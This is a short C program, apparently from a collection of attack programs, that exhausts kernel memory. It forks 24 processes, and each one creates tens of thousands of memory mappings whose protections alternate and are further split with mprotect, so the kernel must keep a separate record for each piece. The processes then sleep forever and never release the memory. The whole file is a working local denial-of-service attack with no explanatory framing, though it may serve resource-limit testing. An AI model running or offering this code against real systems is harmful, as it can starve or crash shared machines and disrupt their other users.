/* As many mappings as the kernel grants, in as many processes as there may be: memory of the kernel. */
#include "attack.h"
int main(void)
{
	for (int p = 0; p < 24; p++) if (fork() == 0) break;
	for (long i = 0; i < 65000; i++) {
		char *at = mmap(NULL, 8192, i % 2 ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
		if (at == MAP_FAILED) break;
		mprotect(at, 4096, PROT_READ | PROT_WRITE);
	}
	for (;;) pause();
}
